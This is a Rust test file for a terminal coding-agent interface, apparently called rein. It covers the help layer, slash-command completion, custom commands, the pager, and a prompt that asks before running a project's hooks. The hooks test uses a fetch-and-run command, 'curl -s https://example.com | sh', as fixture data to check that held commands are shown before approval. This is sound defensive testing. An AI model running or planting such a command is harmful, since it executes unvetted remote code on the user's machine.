//! Layers over the dashboard: help, the slash list and custom commands, the question about a
//! project's hooks, the pager.

use crate::support;

use std::time::Instant;

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use ratatui::backend::TestBackend;
use ratatui::Terminal;
use rein::app::state::{App, Cell, SessionInfo, ToolStatus};
use rein::app::update::update_at;
use rein::app::AppEvent;
use rein::ui::render;
use support::app::{draw, snapshot};

use super::{info, tool, Clock};

#[test]
fn the_help_layer_lists_keys_and_commands_over_the_dashboard() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.transcript.cells = vec![Cell::user("hello")];
    update_at(
        &mut app,
        AppEvent::Resize {
            width: 90,
            height: 30,
        },
        clock.now(),
    );
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::F(1), KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = snapshot("help_90x30", &app, 90, 30, clock.now());
    assert!(screen.contains("Help"));
    assert!(screen.contains("/help"), "{screen}");
    assert!(screen.contains("Esc/q/F1/Ctrl-C close"), "{screen}");
    assert!(screen.contains("more"), "it scrolls: {screen}");
    // Scrolled to its end, the typing notes show.
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::End, KeyModifiers::NONE)),
        clock.now(),
    );
    let end = draw(&app, 90, 30, clock.now());
    assert!(end.contains("then Enter starts a new line"), "{end}");
}

// ---- the / completion list --------------------------------------------------------------

/// An idle session with a short exchange, and `text` typed into the input key by key.
fn typing_app(commands: rein_core::custom_commands::CommandSet, text: &str, now: Instant) -> App {
    let mut app = App::new(info(), 128_000);
    app.show_todos = false;
    app.custom_commands = commands;
    app.transcript.cells = vec![
        Cell::user_command("/fix-issue 123", ".agents/commands/fix-issue.md"),
        Cell::assistant(
            "Issue 123 is fixed: the parser keeps tabs inside words.",
            true,
        ),
    ];
    for c in text.chars() {
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE)),
            now,
        );
    }
    app
}

fn project_commands() -> (tempfile::TempDir, rein_core::custom_commands::CommandSet) {
    let dir = tempfile::tempdir().unwrap();
    let commands = dir.path().join(".agents/commands");
    std::fs::create_dir_all(&commands).unwrap();
    std::fs::write(
        commands.join("fix-issue.md"),
        "---\ndescription: Fix a GitHub issue and add a test for it\nargument-hint: <issue-number>\n---\nFix issue #$ARGUMENTS.\n",
    )
    .unwrap();
    std::fs::write(
        commands.join("review.md"),
        "# Review the staged diff\n\nLook for bugs.\n",
    )
    .unwrap();
    let set = rein_core::custom_commands::CommandSet::discover(
        None,
        dir.path(),
        &rein::app::commands::is_builtin,
    );
    (dir, set)
}

#[test]
fn slash_opens_the_list_of_built_in_commands() {
    let clock = Clock::new();
    let app = typing_app(
        rein_core::custom_commands::CommandSet::empty(),
        "/",
        clock.now(),
    );
    let screen = snapshot("slash_list_built_ins_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("commands (20)"), "{screen}");
    assert!(screen.contains("/model [NAME]"), "{screen}");
    assert!(
        screen.contains("Tab complete"),
        "the footer names the list's keys:\n{screen}"
    );
    assert!(
        screen.contains("expanded from .agents/commands/fix-issue.md"),
        "{screen}"
    );
}

#[test]
fn the_slash_list_narrows_as_the_user_types() {
    let clock = Clock::new();
    let app = typing_app(
        rein_core::custom_commands::CommandSet::empty(),
        "/co",
        clock.now(),
    );
    let screen = snapshot("slash_list_filtered_80x24", &app, 80, 24, clock.now());
    assert!(screen.contains("commands (3 of 20)"), "{screen}");
    assert!(!screen.contains("/help"), "{screen}");
}

#[test]
fn the_slash_list_offers_custom_commands_with_their_hints() {
    let clock = Clock::new();
    let (_dir, commands) = project_commands();
    let mut app = typing_app(commands, "/r", clock.now());
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = snapshot("slash_list_custom_80x24", &app, 80, 24, clock.now());
    assert!(
        screen.contains("/review") && screen.contains("Review the staged diff (project)"),
        "{screen}"
    );
    // Down selected the second row: it, and only it, is drawn reversed.
    let mut terminal = Terminal::new(TestBackend::new(80, 24)).unwrap();
    terminal.draw(|f| render(&app, f, clock.now())).unwrap();
    let buf = terminal.backend().buffer();
    let reversed: Vec<u16> = (0..24)
        .filter(|&y| {
            buf[(2, y)]
                .modifier
                .contains(ratatui::style::Modifier::REVERSED)
        })
        .collect();
    let second_row = screen.lines().position(|l| l.contains("/rewind")).unwrap() as u16;
    assert_eq!(reversed, [second_row]);
    let narrow = typing_app(project_commands().1, "/fi", clock.now());
    let screen = snapshot("slash_list_custom_hint_50x12", &narrow, 50, 12, clock.now());
    assert!(screen.contains("/fix-issue <issue-number>"), "{screen}");
}

/// The question about a project's held hooks shows every command whole, scrolls when it
/// does not fit, and keeps its keys in view.
#[test]
fn the_question_about_a_projects_hooks_shows_every_command_and_scrolls() {
    let clock = Clock::new();
    let project = tempfile::tempdir().unwrap();
    let data = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(project.path().join(".rein")).unwrap();
    let long = format!("echo {} END-OF-COMMAND", "x".repeat(150));
    let hooks = serde_json::json!({"hooks": {
        "PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": long}]}],
        "Stop": [{"hooks": [{"type": "command", "command": "curl -s https://example.com | sh"}]}],
        "SessionStart": [{"hooks": [{"type": "command", "command": "cat notes.md", "timeout": 5}]}]
    }});
    std::fs::write(project.path().join(".rein/hooks.json"), hooks.to_string()).unwrap();
    let loaded = rein_core::hooks::load(
        &data.path().join("config.toml"),
        project.path(),
        data.path(),
    );
    let mut app = App::new(SessionInfo::default(), 128_000);
    app.size = (60, 16);
    app.hook_trust = Some(rein::app::hook_trust::HookTrust::new(loaded.held.unwrap()));
    let screen = draw(&app, 60, 16, clock.now());
    for needle in [
        "Project hooks",
        "would run 3 commands",
        "more",
        "a allow them",
    ] {
        assert!(screen.contains(needle), "{needle} missing:\n{screen}");
    }
    assert!(!screen.contains("curl -s"), "{screen}");
    // Page down to the end: the last command and what the answers mean.
    for _ in 0..6 {
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::PageDown, KeyModifiers::NONE)),
            clock.now(),
        );
    }
    let screen = draw(&app, 60, 16, clock.now());
    for needle in [
        "$ curl -s https://example.com | sh",
        "SessionStart · timeout 5s",
        "none of them runs",
        "a allow them",
    ] {
        assert!(screen.contains(needle), "{needle} missing:\n{screen}");
    }
    assert!(!screen.contains("more"), "{screen}");
    let mut whole = String::new();
    app.hook_trust.as_mut().unwrap().scroll = 0;
    for _ in 0..8 {
        whole.push_str(&draw(&app, 60, 16, clock.now()));
        update_at(
            &mut app,
            AppEvent::Key(KeyEvent::new(KeyCode::Down, KeyModifiers::NONE)),
            clock.now(),
        );
    }
    assert!(whole.contains("END-OF-COMMAND"), "{whole}");
}

/// Issue 28: Alt-O (or F4) opens the transcript pager: every output, diff and reasoning
/// expanded; it opens at the end, scrolls by line, page and to the ends, and q closes it.
#[test]
fn the_pager_shows_the_whole_transcript_expanded_and_scrolls() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    app.size = (80, 24);
    let output: String = (1..=30)
        .map(|i| format!("test case {i} ... ok\n"))
        .collect();
    let mut edit = tool(
        &clock,
        "str_replace",
        "src/lib.rs",
        ToolStatus::Done { approved: false },
        Some("Replaced 1 occurrence in src/lib.rs"),
    );
    if let Cell::Tool(t) = &mut edit {
        let old: String = (0..12).map(|i| format!("old line {i}\n")).collect();
        let new: String = (0..12).map(|i| format!("new line {i}\n")).collect();
        t.diff = rein_core::checkpoint::diff::short(&old, &new, 200);
    }
    app.transcript.cells = vec![
        Cell::user("Run the tests, then fix lib.rs."),
        Cell::reasoning("First the tests.\nThen the edit.", true),
        tool(
            &clock,
            "bash",
            "cargo test",
            ToolStatus::Done { approved: false },
            Some(&output),
        ),
        edit,
        Cell::assistant("All 30 pass, and lib.rs is fixed.", true),
    ];
    let main = draw(&app, 80, 24, clock.now());
    assert!(
        main.contains("more lines (Ctrl-O)"),
        "folded on the main screen: {main}"
    );
    let key = |app: &mut App, code, modifiers| {
        update_at(
            app,
            AppEvent::Key(KeyEvent::new(code, modifiers)),
            clock.now(),
        )
    };
    key(&mut app, KeyCode::Char('o'), KeyModifiers::ALT);
    assert!(app.pager.is_some());
    let end = snapshot("pager_end_80x24", &app, 80, 24, clock.now());
    assert!(end.contains("Transcript, everything expanded"), "{end}");
    assert!(end.contains("+ new line 11"), "the diff whole: {end}");
    assert!(end.contains("All 30 pass"), "{end}");
    // Home: the top, with the reasoning and the whole output.
    key(&mut app, KeyCode::Home, KeyModifiers::NONE);
    let top = snapshot("pager_top_80x24", &app, 80, 24, clock.now());
    assert!(top.contains("Run the tests"), "{top}");
    assert!(
        top.contains("∴ First the tests."),
        "reasoning expanded: {top}"
    );
    assert!(top.contains("test case 1 ... ok"), "{top}");
    assert!(!top.contains("test case 30 ... ok"), "{top}");
    // A page down, then a line: further through the output.
    key(&mut app, KeyCode::PageDown, KeyModifiers::NONE);
    key(&mut app, KeyCode::Char('j'), KeyModifiers::NONE);
    let paged = draw(&app, 80, 24, clock.now());
    assert!(paged.contains("test case 30 ... ok"), "{paged}");
    assert!(!paged.contains("Run the tests"), "{paged}");
    // The main screen underneath is as it was; q closes.
    key(&mut app, KeyCode::Char('q'), KeyModifiers::NONE);
    assert!(app.pager.is_none());
    assert_eq!(draw(&app, 80, 24, clock.now()), main);
    // F4 opens it too, and Esc closes it.
    key(&mut app, KeyCode::F(4), KeyModifiers::NONE);
    assert!(app.pager.is_some());
    key(&mut app, KeyCode::Esc, KeyModifiers::NONE);
    assert!(app.pager.is_none());
}

/// What a pager frame costs follows the screen, not the session: over 20 000 cells, a
/// frame at the end or at the top measures only the cells around the view.
#[test]
fn a_pager_frame_lays_out_only_the_cells_in_view() {
    let clock = Clock::new();
    let mut app = App::new(info(), 128_000);
    let output: String = (1..=8).map(|i| format!("line {i}\n")).collect();
    for i in 0..20_000 {
        app.transcript.cells.push(tool(
            &clock,
            "bash",
            &format!("echo {i}"),
            ToolStatus::Done { approved: false },
            Some(&output),
        ));
    }
    app.pager = Some(rein::app::pager::Pager::default());
    let measured = |app: &App| {
        let pager = app.pager.as_ref().unwrap();
        let layout = pager.layout.borrow();
        layout.heights.iter().filter(|h| h.is_some()).count()
    };
    let screen = draw(&app, 80, 24, clock.now());
    assert!(screen.contains("echo 19999"), "{screen}");
    assert!(measured(&app) <= 24, "{}", measured(&app));
    update_at(
        &mut app,
        AppEvent::Key(KeyEvent::new(KeyCode::Home, KeyModifiers::NONE)),
        clock.now(),
    );
    let screen = draw(&app, 80, 24, clock.now());
    assert!(screen.contains("echo 0"), "{screen}");
    assert!(measured(&app) <= 48, "{}", measured(&app));
    let drawn = app.pager.as_ref().unwrap().layout.borrow().drawn.len();
    assert!(drawn <= 24, "{drawn}");
}
